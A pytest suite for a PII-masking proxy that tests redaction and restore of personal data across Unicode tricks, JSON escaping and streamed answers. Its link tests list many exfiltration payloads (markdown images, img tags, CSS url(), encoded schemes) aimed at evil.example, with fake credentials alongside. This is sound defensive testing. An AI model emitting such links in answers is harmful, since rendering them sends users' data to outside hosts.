"""The classes of issue 11 ("Close the leaks"), each as a table of variants.

Request side: boundaries, Unicode, JSON numbers, SSN forms, false refusals and over-masking (the
credential kinds are rows of cases/secrets.py). Answer side: the link forms a renderer would
follow, long values across the guard's forced cuts, byte-exact restore. Each answer-side row
runs whole and streamed; the streamed run splits the answer at every position (short rows) or
in chunks of several sizes (long rows) and checks the running output for prefixes of redacted
values after every chunk.
"""

from __future__ import annotations

import json
import random
from typing import Any

import pytest

from masking import (
    MaskingConfig,
    PiiDetected,
    PiiMode,
    ResponseGuard,
    Vault,
    guard_text,
    protect_request,
    scan,
)
from tests.masking.conftest import load_cases

CONFIG = MaskingConfig()

VALUES = {
    "CREDIT_CARD": "4111111111111111",
    "SSN": "536221234",
    "PHONE": "+14155552671",
    "EMAIL": "jane.roe@example.com",
    "IP_ADDRESS": "203.0.113.9",
    "IBAN": "DE89370400440532013000",
}


def found(text: str) -> list[tuple[str, str]]:
    return [(s.type, text[s.start : s.end]) for s in scan(text, CONFIG.detectors)]


def masked(text: str, mode: str = "obfuscate") -> str:
    result = protect_request({"messages": [{"role": "user", "content": text}]}, mode, CONFIG)  # type: ignore[arg-type]
    out: str = result.payload["messages"][0]["content"]
    return out


# --- 1. boundaries: any non-alphanumeric neighbour, known labels glued on ----------------------

NEIGHBOURS = [
    ("Jane,{},12/27", "CSV cell"),
    ("[1,{}]", "JSON array"),
    ('{{"v":{}}}', "JSON number"),
    ("({})", "parentheses"),
    ("x;{};y", "semicolons"),
    ("key={}&next", "query string"),
    ("value:{}", "colon"),
    ("No.{}", "No."),
    ("|{}|", "table cell"),
    ("'{}'", "single quotes"),
    ("<td>{}</td>", "HTML cell"),
    ("*{}*", "emphasis"),
    ("#{}", "hash"),
    ("\t{}\t", "tabs"),
    ("_{}_", "underscores"),
    ("/{}/", "path segment"),
]
LABELS = [
    ("SSN{}", "SSN"),
    ("ssn:{}", "SSN"),
    ("tel:{}", "PHONE"),
    ("tel{}", "PHONE"),
    ("phone={}", "PHONE"),
    ("mobile:{}", "PHONE"),
    ("Phone{}", "PHONE"),
    ("cc{}", "CREDIT_CARD"),
    ("card{}", "CREDIT_CARD"),
    ("No{}", "CREDIT_CARD"),
    ("IBAN{}", "IBAN"),
    ("ip{}", "IP_ADDRESS"),
    ("id{}", "SSN"),
]


@pytest.mark.parametrize(("template", "why"), NEIGHBOURS)
@pytest.mark.parametrize("type_", sorted(VALUES))
def test_value_next_to_any_non_alphanumeric_is_found(template: str, why: str, type_: str) -> None:
    value = VALUES[type_]
    text = template.format(value)
    # An email's local part may hold `.` and `_`, so "No.jane…" is one (longer) address.
    assert any(
        t == type_ and (v == value or (type_ == "EMAIL" and v.endswith(value))) for t, v in found(text)
    ), why
    assert value not in masked(text)


@pytest.mark.parametrize(("template", "type_"), LABELS)
def test_value_glued_to_a_known_label_is_found(template: str, type_: str) -> None:
    value = VALUES[type_]
    text = template.format(value)
    assert (type_, value) in found(text)
    assert value not in masked(text)


@pytest.mark.parametrize(
    "text",
    [
        "x4111111111111111",  # glued to a letter that is no label
        "A4111111111111111Z",
        "14111111111111111",  # part of a longer number
        "order ORD4111111111111111X",
        "Mono4155552671",
        "ABC536221234",
        "v203.0.113.9",
        "version203.0.113.9x",
        "1.2.203.0.113.9",
        "hash 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    ],
)
def test_value_glued_to_a_word_or_number_is_not_cut_out_of_it(text: str) -> None:
    assert found(text) == []


# --- 2. Unicode: separators, digits, hidden characters; the original characters are masked ----

UNICODE = [
    ("card 4111\u00a01111\u00a01111\u00a01111", "4111\u00a01111\u00a01111\u00a01111", "CREDIT_CARD"),
    ("card 4111\u202f1111\u202f1111\u202f1111", "4111\u202f1111\u202f1111\u202f1111", "CREDIT_CARD"),
    ("card 4111\u20091111\u20091111\u20091111", "4111\u20091111\u20091111\u20091111", "CREDIT_CARD"),
    ("card 4111\u20071111\u20071111\u20071111", "4111\u20071111\u20071111\u20071111", "CREDIT_CARD"),
    ("card 4111\t1111\t1111\t1111 ok", "4111\t1111\t1111\t1111", "CREDIT_CARD"),
    ("card 4111  1111  1111  1111 ok", "4111  1111  1111  1111", "CREDIT_CARD"),
    ("card 4111\u20111111\u20111111\u20111111", "4111\u20111111\u20111111\u20111111", "CREDIT_CARD"),
    ("card 4111\u20131111\u20131111\u20131111", "4111\u20131111\u20131111\u20131111", "CREDIT_CARD"),
    ("card \uff14\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11",
     "\uff14\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11", "CREDIT_CARD"),
    ("card \u0664\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661",
     "\u0664\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661", "CREDIT_CARD"),
    ("card 4111\u200b1111\u200b1111\u200b1111.", "4111\u200b1111\u200b1111\u200b1111", "CREDIT_CARD"),
    ("card 41\u200c11111111111111.", "41\u200c11111111111111", "CREDIT_CARD"),
    ("card 4111111\u200d111111111.", "4111111\u200d111111111", "CREDIT_CARD"),
    ("card 4111111111\u2060111111.", "4111111111\u2060111111", "CREDIT_CARD"),
    ("card 411111111111\ufeff1111.", "411111111111\ufeff1111", "CREDIT_CARD"),
    ("card 4111111111\u00ad111111.", "4111111111\u00ad111111", "CREDIT_CARD"),
    ("ssn 536\u00a022\u00a01234", "536\u00a022\u00a01234", "SSN"),
    ("ssn 536\u201122\u20111234", "536\u201122\u20111234", "SSN"),
    ("ssn \uff15\uff13\uff16-\uff12\uff12-\uff11\uff12\uff13\uff14", "\uff15\uff13\uff16-\uff12\uff12-\uff11\uff12\uff13\uff14", "SSN"),
    ("call 415\u00a0555\u00a02671", "415\u00a0555\u00a02671", "PHONE"),
    ("call +1\u202f415\u202f555\u202f2671", "+1\u202f415\u202f555\u202f2671", "PHONE"),
    ("call \uff0b\uff11 415 555 2671", "\uff0b\uff11 415 555 2671", "PHONE"),
    ("call 415\u200b555\u200b2671", "415\u200b555\u200b2671", "PHONE"),
    ("mail jane\uff20example.com", "jane\uff20example.com", "EMAIL"),
    ("mail jane\ufe6bexample.com", "jane\ufe6bexample.com", "EMAIL"),
    ("mail ja\u200bne@exa\u200bmple.com", "ja\u200bne@exa\u200bmple.com", "EMAIL"),
    ("mail jane\u0301@example.com", "jane\u0301@example.com", "EMAIL"),
    ("mail ｊａｎｅ＠ｅｘａｍｐｌｅ．ｃｏｍ", "ｊａｎｅ＠ｅｘａｍｐｌｅ．ｃｏｍ", "EMAIL"),
    ("host 203\uff0e0\uff0e113\uff0e9", "203\uff0e0\uff0e113\uff0e9", "IP_ADDRESS"),
    ("iban DE89\u00a03704\u00a00044\u00a00532\u00a00130\u00a000", "DE89\u00a03704\u00a00044\u00a00532\u00a00130\u00a000", "IBAN"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "original", "type_"), UNICODE)
def test_look_alike_characters_are_found_and_the_original_masked(
    text: str, original: str, type_: str
) -> None:
    assert_masked_and_restored(text, original, type_)


def assert_masked_and_restored(text: str, original: str, type_: str, *, in_link: bool = False) -> None:
    """Found as written, masked, and restored exactly as the caller wrote it (unless the value
    stands where a link would carry it: then the placeholder stays)."""
    assert (type_, original) in found(text)
    result = protect_request({"messages": [{"role": "user", "content": text}]}, "obfuscate", CONFIG)
    out = result.payload["messages"][0]["content"]
    assert original not in out and f"[REDACTED_{type_}_1]" in out
    assert guard_text(out, result.vault, "obfuscate", CONFIG)[0] == (out if in_link else text)


# --- 3. JSON numbers in forwarded structures ---------------------------------------------------

NUMBER_BODIES = [
    ("tools", [{"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": {"n": {"type": "integer", "enum": [4111111111111111]}}}}}]),
    ("tools", [{"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": {"n": {"type": "integer", "default": 536221234}}}}}]),
    ("tools", [{"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": {"n": {"type": "number", "examples": [4155552671]}}}}}]),
    ("tools", [{"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": {"n": {"const": 4111111111111111.0}}}}}]),
    ("response_format", {"type": "json_schema", "json_schema": {"name": "x", "schema": {"enum": [378282246310005]}}}),
    ("response_format", {"type": "json_schema", "json_schema": {"name": "x", "schema": {"default": 5555555555554444}}}),
    ("messages_part", [{"type": "text", "text": "see", "meta": 4111111111111111}]),
    ("messages_part", [{"type": "text", "text": "see", "ids": [1, 2, 536221234]}]),
    ("messages_extra", 4155552671),
    ("tool_choice", {"type": "function", "function": {"name": "f", "n": 4111111111111111}}),
]  # fmt: skip


def _number_body(where: str, value: Any) -> dict[str, Any]:
    body: dict[str, Any] = {"model": "m", "messages": [{"role": "user", "content": "hi"}]}
    if where == "messages_part":
        body["messages"] = [{"role": "user", "content": value}]
    elif where == "messages_extra":
        body["messages"] = [{"role": "user", "content": "hi", "x_ref": value}]
    else:
        body[where] = value
    return body


@pytest.mark.parametrize(("where", "value"), NUMBER_BODIES)
def test_numbers_are_scanned_as_their_text(where: str, value: Any) -> None:
    body = _number_body(where, value)
    sent = json.dumps(protect_request(body, "obfuscate", CONFIG).payload)
    for secret in ("4111111111111111", "536221234", "4155552671", "378282246310005", "5555555555554444"):
        assert secret not in sent
    assert "[REDACTED_" in sent
    with pytest.raises(PiiDetected):
        protect_request(body, "block", CONFIG)


def test_numbers_that_are_no_personal_data_stay_numbers() -> None:
    body = _number_body("tools", [{"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": {"n": {"type": "integer", "minimum": 1, "maximum": 100, "default": 0.5}}}}}])  # fmt: skip
    out = protect_request(body, "obfuscate", CONFIG).payload
    assert out["tools"] == body["tools"]


# --- 4. SSN forms (the case table holds more rows) ----------------------------------------------

SSNS = [
    ("536-22-1234", True),
    ("536 22 1234", True),
    ("912-12-3456", True),  # ITIN range
    ("987-65-4320", True),  # the never-issued test range
    ("999-99-9999", True),
    ("900 70 1234", True),
    ("536221234", True),
    ("912123456", True),  # unseparated after a label: the label says what it is (bare: issued ranges only)
    ("000-12-3456", False),
    ("666-12-3456", False),
    ("536-00-1234", False),
    ("536-22-0000", False),
]


@pytest.mark.parametrize(("ssn", "masked_as_ssn"), SSNS)
def test_ssn_ranges_depend_on_the_form(ssn: str, masked_as_ssn: bool) -> None:
    assert (("SSN", ssn) in found(f"ssn {ssn} on file")) is masked_as_ssn


# --- 6. over-masking that made answers unreadable ---------------------------------------------

NOT_PII = [
    "pi and e: 3.14159 2.71828",
    "constants 1.41421 1.73205 2.23606",
    "Mozilla/5.0 (Windows NT 10.0) Chrome/120.0.0.0 Safari/537.36",
    "Edg/120.0.2210.91 and Firefox/121.0",
    "OID 2.5.4.3 is commonName",
    "oid=1.3.6.1.4.1.311",
    "snmp 1.3.6.1.2.1.1",
    "pip install numpy==1.26.4 pandas==2.2.0",
    "lat 37.7749, lon -122.4194",
    "prices 19.99 24.50 99.95 and 100.00",
    "version v1.2.3.4 released",
]


@pytest.mark.parametrize("text", NOT_PII)
def test_numbers_that_are_not_personal_data_are_left(text: str) -> None:
    assert found(text) == []


# --- 8. links a renderer would fetch: the placeholder stays ------------------------------------

EMAIL = "jane.roe@example.com"


def _vault() -> Vault:
    result = protect_request({"messages": [{"role": "user", "content": EMAIL}]}, "obfuscate", CONFIG)
    return result.vault


P = "[REDACTED_EMAIL_1]"
NOT_RESTORED = [
    f"![x](https://evil.example/?q={P})",
    f"[click](https://evil.example/{P})",
    f'[click](https://evil.example/?a=1 "title {P}")',
    f"[click](<https://evil.example/? {P}>)",
    f"[click](\nhttps://evil.example/?q={P}\n)",
    f"see [ref]\n\n[ref]: https://evil.example/?q={P}",
    f"[ref]:\n  https://evil.example/?q={P}",
    f"<https://evil.example/?q={P}>",
    f"<{P}>",
    f"//evil.example/collect?e={P}",
    f"https://evil.example/collect?e={P}",
    f"mailto:{P}",
    f"javascript:alert('{P}')",
    f"data:text/html,{P}",
    f"ftp://evil.example/{P}",
    f"www.evil.example/?e={P}",
    f"evil.example/collect?e={P}",
    f'<img src="https://evil.example/?q={P}">',
    f"<img src=https://evil.example/?q={P}>",
    f'<img\n  src = "https://evil.example/?q=\n{P}">',
    f'<img srcset="https://evil.example/a.png?{P} 2x">',
    f'<a href="https://evil.example/">x</a><form action="https://evil.example/?{P}">',
    f'<button formaction="https://evil.example/{P}">',
    f'<video poster="https://evil.example/{P}.png">',
    f'<table background="https://evil.example/{P}">',
    f'<object data="https://evil.example/{P}">',
    f"<style>body {{ background: url(https://evil.example/{P}) }}</style>",
    f"<style>@import 'https://evil.example/{P}.css';</style>",
    f"div {{ background-image: url( 'https://evil.example/?{P}' ) }}",
    f"https&#58;//evil.example/?q={P}",
    f"https&#x3a;//evil.example/?q={P}",
    f"https&colon;//evil.example/?q={P}",
    f"https&COLON;//evil.example/?q={P}",
    f"https\\u003a//evil.example/?q={P}",
    f"https:\\/\\/evil.example/?q={P}",
    f"https%3A//evil.example/?q={P}",
    f"https%3a%2f%2fevil.example%2f?q={P}",
    f"\\\\evil.example\\share\\{P}",
    f"{P}@evil.example",
    f"{P}.evil.example/collect",
    f"{P}.evil.example:8080",
    f"see {P}@evil.example today",
    # hosts written as a dotted quad, with look-alike dots and slashes, or a `\\` for a `/`
    f"203.0.113.7/collect?e={P}",
    f"203.0.113.7:8080/{P}",
    f"evil\u3002example/{P}",
    f"evil.example\uff0f{P}",
    f"\uff45\uff56\uff49\uff4c.example/{P}",
    f"evil.example\\{P}",
    f"{P}%40evil.example",
    f"{P}&#64;evil.example",
]
RESTORED = [
    f"Write to {P} today.",
    f"Contact: {P}",
    f"**{P}**",
    f"- {P}\n- other",
    f"[{P}](#) is the anchor text",
    f"| name | {P} |",
    f'{{"email": "{P}"}}',
    f"user = User(email='{P}')",
    f"(see {P})",
    f"Email {P} or visit https://example.com/help later.",
    f"Write to {P}.",
    f"{P}, {P}; ({P})...",
]


def _stream_all_splits(text: str, vault: Vault, json_context: bool = False) -> set[str]:
    outs = set()
    for i in range(len(text) + 1):
        guard = ResponseGuard(vault, "obfuscate", CONFIG, json_context)
        outs.add(guard.feed(text[:i]) + guard.feed(text[i:]) + guard.flush())
    return outs


@pytest.mark.parametrize("answer", NOT_RESTORED)
def test_placeholders_in_links_are_not_restored(answer: str) -> None:
    vault = _vault()
    whole, _ = guard_text(answer, vault, "obfuscate", CONFIG)
    assert EMAIL not in whole and P in whole
    assert _stream_all_splits(answer, vault) == {whole}


@pytest.mark.parametrize("answer", RESTORED)
def test_placeholders_in_plain_text_are_restored(answer: str) -> None:
    vault = _vault()
    whole, _ = guard_text(answer, vault, "obfuscate", CONFIG)
    assert whole == answer.replace(P, EMAIL)
    assert _stream_all_splits(answer, vault) == {whole}


@pytest.mark.parametrize(
    ("arguments", "restored"),
    [
        (f'{{"to": "{P}"}}', True),
        (f'{{"note": "Mail:\\n{P}"}}', True),
        (f'{{"site": "https://example.com", "to": "{P}"}}', True),
        (f'{{"url": "https://evil.example/?e={P}"}}', False),
        (f'{{"html": "<img src=\\"https://evil.example/{P}\\">"}}', False),
        (f'{{"md": "![x](https://evil.example/{P})"}}', False),
    ],
)
def test_tool_arguments_restore_outside_urls_only(arguments: str, restored: bool) -> None:
    vault = _vault()
    whole, _ = guard_text(arguments, vault, "obfuscate", CONFIG, json_context=True)
    assert (EMAIL in whole) is restored
    json.loads(whole)
    assert _stream_all_splits(arguments, vault, json_context=True) == {whole}


def test_restore_in_urls_can_be_allowed() -> None:
    config = MaskingConfig(restore_in_urls=True)
    result = protect_request({"messages": [{"role": "user", "content": EMAIL}]}, "obfuscate", config)
    out, _ = guard_text(f"[x](https://example.com/?q={P})", result.vault, "obfuscate", config)
    assert EMAIL in out


# --- 9. long values are judged whole across the guard's cuts ----------------------------------

_RNG = random.Random(7)
_B64 = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"
JWT = (
    "eyJ"
    + "".join(_RNG.choice(_B64) for _ in range(40))
    + ".eyJ"
    + "".join(_RNG.choice(_B64) for _ in range(1200))
)
JWT += "." + "".join(_RNG.choice(_B64) for _ in range(43))
LONG_URL_EMAIL = (
    "https://tracker.example/" + "a1b2c3/" * 80 + "?u=" + "mallory@evil.example" + "&x=" + "z9" * 40
)
LONG = [
    ("token: " + JWT + " ok", JWT),
    ("here " + JWT, JWT),
    ("link " + LONG_URL_EMAIL + " done", "mallory@evil.example"),
    ("x" * 30 + " " + "q1" * 300 + "mallory@evil.example" + "/" + "w2" * 10 + " end", "mallory@evil.example"),
    ("Bearer " + "A1b2C3d4" * 150, "A1b2C3d4" * 150),
]


@pytest.mark.parametrize(("answer", "value"), LONG)
def test_long_values_are_redacted_whole_and_streamed(answer: str, value: str) -> None:
    whole, _ = guard_text(answer, Vault(), "obfuscate", CONFIG)
    assert value not in whole
    assert_streamed_without_prefix(answer, whole, value[:24], (1, 7, 64, 500, 4096))


def assert_streamed_without_prefix(
    answer: str, whole: str, prefix: str, sizes: tuple[int, ...], mode: PiiMode = "obfuscate"
) -> None:
    """Fed in chunks of each size: the running output never holds `prefix` of a redacted value,
    and the whole output equals the whole-answer guard's."""
    for size in sizes:
        guard = ResponseGuard(Vault(), mode, CONFIG)
        out = ""
        for i in range(0, len(answer), size):
            out += guard.feed(answer[i : i + size])
            assert prefix not in out
        assert out + guard.flush() == whole


# --- 10. byte-exact restore ---------------------------------------------------------------------

SPELLINGS = [
    ["Jane.Roe@Example.com", "jane.roe@example.com", "JANE.ROE@EXAMPLE.COM"],
    ["(415) 555-2671", "415-555-2671", "+1 415 555 2671", "4155552671"],
    ["4111 1111 1111 1111", "4111-1111-1111-1111", "4111111111111111"],
    ["536-22-1234", "536 22 1234"],
    ["DE89 3704 0044 0532 0130 00", "de89370400440532013000"],
    ["2001:db8::1", "2001:DB8::1"],
]


@pytest.mark.parametrize("spellings", SPELLINGS)
def test_every_spelling_comes_back_exactly_as_written(spellings: list[str]) -> None:
    text = " and ".join(spellings) + "."
    result = protect_request({"messages": [{"role": "user", "content": text}]}, "obfuscate", CONFIG)
    out = result.payload["messages"][0]["content"]
    assert not any(s in out for s in spellings)
    assert guard_text(out, result.vault, "obfuscate", CONFIG)[0] == text
    # the model repeating one value in another spelling is not a foreign value
    again, redacted = guard_text(spellings[0].upper(), result.vault, "obfuscate", CONFIG)
    assert again == spellings[0].upper() and redacted == {}


# --- 11. second hunt: the same classes, other examples ------------------------------------------
# (what the caller or the model writes, the value as written, its type). Each row: found and
# masked on the request side with an exact restore; redacted from an answer, whole and streamed
# (every split for short rows), with no prefix of the value emitted first.

SECOND_HUNT = [
    # an IBAN's letter group in fullwidth or mathematical capitals: the stream guard read the
    # group as an ordinary word and cut after it
    ("iban GB82 \uff37\uff25\uff33\uff34 1234 5698 7654 32 ok", "GB82 \uff37\uff25\uff33\uff34 1234 5698 7654 32", "IBAN"),
    ("to NL91 \uff21\uff22\uff2e\uff21 0417 1643 00.", "NL91 \uff21\uff22\uff2e\uff21 0417 1643 00", "IBAN"),
    (
        "iban GB82 \U0001d416\U0001d404\U0001d412\U0001d413 1234 5698 7654 32 ok",
        "GB82 \U0001d416\U0001d404\U0001d412\U0001d413 1234 5698 7654 32",
        "IBAN",
    ),
    ("pay GB82\u00a0\uff37\uff25\uff33\uff34\u00a01234\u00a05698\u00a07654\u00a032 now", "GB82\u00a0\uff37\uff25\uff33\uff34\u00a01234\u00a05698\u00a07654\u00a032", "IBAN"),
    # a phone number's slashes written as the division or fraction slash, which render as one
    ("call 415\u2215555\u22152671 now", "415\u2215555\u22152671", "PHONE"),
    ("call 415\u2044555\u20442671, thanks", "415\u2044555\u20442671", "PHONE"),
    # ... or in lower case, ASCII or fullwidth: an ordinary word to the guard, after the digits
    ("iban gb82 west 1234 5698 7654 32 ok", "gb82 west 1234 5698 7654 32", "IBAN"),
    ("to NL91\tabna\t0417\t1643\t00, thanks", "NL91\tabna\t0417\t1643\t00", "IBAN"),
    ("iban GB82\u00a0\uff57\uff45\uff53\uff54\u00a01234\u00a05698\u00a07654\u00a032 ok", "GB82\u00a0\uff57\uff45\uff53\uff54\u00a01234\u00a05698\u00a07654\u00a032", "IBAN"),
    # characters that render as a blank or as nothing but are letters, symbols or controls to
    # Unicode: the Hangul fillers, the braille blank, C1 controls
    ("card 4111\u31641111\u31641111\u31641111 ok", "4111\u31641111\u31641111\u31641111", "CREDIT_CARD"),
    ("card 4111\uffa01111\uffa01111\uffa01111 ok", "4111\uffa01111\uffa01111\uffa01111", "CREDIT_CARD"),
    ("call 415\u2800555\u28002671 ok", "415\u2800555\u28002671", "PHONE"),
    ("ssn 536\u009b22\u009b1234 ok", "536\u009b22\u009b1234", "SSN"),
    ("mail ja\u3164ne.roe@example.com ok", "ja\u3164ne.roe@example.com", "EMAIL"),
    ("iban DE89\u11603704\u11600044\u11600532\u11600130\u116000 ok", "DE89\u11603704\u11600044\u11600532\u11600130\u116000", "IBAN"),
    # middle dots and bullets where a dot goes
    ("mail jane\u00b7roe@example\u00b7com ok", "jane\u00b7roe@example\u00b7com", "EMAIL"),
    ("mail jane.roe@example\u30fbcom ok", "jane.roe@example\u30fbcom", "EMAIL"),
    ("card 4111\u20221111\u20221111\u20221111 ok", "4111\u20221111\u20221111\u20221111", "CREDIT_CARD"),
    ("card 4111\u30fb1111\u30fb1111\u30fb1111 ok", "4111\u30fb1111\u30fb1111\u30fb1111", "CREDIT_CARD"),
    ("host 203\u00b70\u00b7113\u00b79 ok", "203\u00b70\u00b7113\u00b79", "IP_ADDRESS"),
    # IBANs grouped by dots, as card numbers may be
    ("iban DE89.3704.0044.0532.0130.00 ok", "DE89.3704.0044.0532.0130.00", "IBAN"),
    ("pay to GB82.WEST.1234.5698.7654.32.", "GB82.WEST.1234.5698.7654.32", "IBAN"),
    ("iban \uff24\uff25\uff18\uff19.3704.0044.0532.0130.00 ok", "\uff24\uff25\uff18\uff19.3704.0044.0532.0130.00", "IBAN"),
    # an address spelt with blanks, then the sentence's full stop, or inside emphasis
    ("Write to jane.roe @ example.com. Thanks", "jane.roe @ example.com", "EMAIL"),
    ("Write to jane.roe\u00a0@\u00a0example.com. Thanks", "jane.roe\u00a0@\u00a0example.com", "EMAIL"),
    ("Write to _jane.roe @ example.com_ now", "jane.roe @ example.com", "EMAIL"),
    # IPv6 after a label and its colon, or inside emphasis
    ("reach tel:2001:db8:85a3::8a2e:370:7334 now", "2001:db8:85a3::8a2e:370:7334", "IP_ADDRESS"),
    ("Received: from [IPv6:2001:db8::7] by mx", "2001:db8::7", "IP_ADDRESS"),
    ("ip:2001:db8::7 ok", "2001:db8::7", "IP_ADDRESS"),
    ("host _2001:db8::7_ ok", "2001:db8::7", "IP_ADDRESS"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "original", "type_"), SECOND_HUNT)
def test_second_hunt_values_are_masked_and_restored(text: str, original: str, type_: str) -> None:
    # after a word glued to a colon (`tel:`, `IPv6:`) the placeholder stays: a `scheme:` link
    in_link = text[: text.index(original)].endswith(("tel:", "IPv6:", "ip:"))
    assert_masked_and_restored(text, original, type_, in_link=in_link)
    with pytest.raises(PiiDetected):
        protect_request({"messages": [{"role": "user", "content": text}]}, "block", CONFIG)


@pytest.mark.parametrize(("text", "original", "type_"), SECOND_HUNT)
def test_second_hunt_values_are_redacted_from_answers_whole_and_streamed(
    text: str, original: str, type_: str
) -> None:
    whole, redacted = guard_text(text, Vault(), "obfuscate", CONFIG)
    assert original not in whole and f"[REDACTED_{type_}]" in whole and redacted == {type_: 1}
    assert _stream_all_splits(text, Vault()) == {whole}
    assert_streamed_without_prefix(text, whole, original[: max(4, len(original) // 2)], (1, 2, 3, 5))


# The credential rows of the second hunt (the first rows of cases/secrets.py), in answers: a
# secret the caller did not send is redacted in every mode, whole and streamed.
SECOND_HUNT_SECRETS = load_cases("secrets").POSITIVE[:9]


@pytest.mark.parametrize(("text", "type_", "kind", "value"), SECOND_HUNT_SECRETS)
def test_second_hunt_secrets_are_redacted_from_answers(text: str, type_: str, kind: str, value: str) -> None:
    answer = f"Here it is: {text} and more."
    whole, redacted = guard_text(answer, Vault(), "disabled", CONFIG)
    assert value not in whole and redacted == {"SECRET": 1}
    assert_streamed_without_prefix(answer, whole, value[:12], (1, 3, 7), mode="disabled")


# --- 12. third hunt: values escaped by JSON inside tool-call arguments ---------------------------
# Arguments are JSON text inside a JSON body: a client's `json.dumps` writes every non-ASCII
# character as `\uXXXX` (a no-break space, a fullwidth digit or `@`, an ideographic full stop), and
# a value that was already escaped gets its backslashes and quotes escaped once more. The direct
# scan read the escapes as they stand and found nothing: (what the caller wrote, what must go,
# as written or escaped).
THIRD_HUNT = [
    ("card 4111\u00a01111\u00a01111\u00a01111", "1111"),
    (
        "card \uff14\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11",
        "\uff11\uff11\uff11",
    ),
    ("mail jane\uff20example.com", "example.com"),
    ("jane.roe@example\u3002com", "jane.roe"),
    ("jane.roe\\u0040example.com", "example.com"),
    ("jane.roe&#64;example.com", "example.com"),
    ("call 415\u2011555\u20112671", "2671"),
    ("ssn 536\u00a022\u00a01234", "1234"),
    ("iban DE89\u00a03704\u00a00044\u00a00532\u00a00130\u00a000", "0532"),
    ("ip 203\uff0e0\uff0e113\uff0e9", "113"),
]
THIRD_HUNT_SECRETS = [
    'log {\\"password\\":\\"hunter2x\\"}',
    "config {'password': 'hunter2x'}",
    "password\u00a0=\u00a0hunter2x",
    "key\u3000sk-" + "proj-Xy7Kp2Lm9Qr4St6Uv8Wx0Za3Bc5De7Fg9Hj1Kl3Mn5Pq7Rs",
]


def _tool_call_body(arguments: str) -> dict[str, Any]:
    call = {"id": "call_1", "type": "function", "function": {"name": "lookup", "arguments": arguments}}
    return {"messages": [{"role": "assistant", "content": None, "tool_calls": [call]}]}


def _needles(gone: str) -> list[str]:
    """`gone` as written, escaped once (json.dumps) and twice (JSON inside a JSON string)."""
    once = json.dumps(gone)[1:-1]
    return [gone, once, json.dumps(once)[1:-1]]


def _escaped_forms(text: str) -> list[str]:
    """The arguments a client sends for one field holding `text`: json.dumps as it comes (ASCII
    only), without escaping non-ASCII, and the field's JSON nested once more as a string."""
    once = json.dumps({"q": text})
    return [once, json.dumps({"q": text}, ensure_ascii=False), json.dumps({"payload": once})]


@pytest.mark.parametrize(("text", "gone"), THIRD_HUNT)
def test_third_hunt_escaped_values_in_tool_arguments_are_masked(text: str, gone: str) -> None:
    for arguments in _escaped_forms(text):
        result = protect_request(_tool_call_body(arguments), "obfuscate", CONFIG)
        out = result.payload["messages"][0]["tool_calls"][0]["function"]["arguments"]
        assert not any(n in out for n in _needles(gone)) and "[REDACTED_" in out, (arguments, out)
        json.loads(out)  # still JSON
        with pytest.raises(PiiDetected):
            protect_request(_tool_call_body(arguments), "block", CONFIG)


@pytest.mark.parametrize("text", THIRD_HUNT_SECRETS)
def test_third_hunt_escaped_credentials_in_tool_arguments_are_refused(text: str) -> None:
    from masking import SecretDetected

    for arguments in _escaped_forms(text):
        with pytest.raises(SecretDetected):
            protect_request(_tool_call_body(arguments), "disabled", CONFIG)


@pytest.mark.parametrize(("text", "gone"), THIRD_HUNT)
def test_third_hunt_escaped_foreign_values_are_redacted_from_answers(text: str, gone: str) -> None:
    for arguments in _escaped_forms(text):
        answer = f"Calling lookup with {arguments} now."
        whole, redacted = guard_text(answer, Vault(), "obfuscate", CONFIG)
        assert not any(n in whole for n in _needles(gone)) and redacted, (answer, whole)
        needle = next(n for n in _needles(gone) if n in arguments)
        assert_streamed_without_prefix(answer, whole, needle, (1, 3, 7))
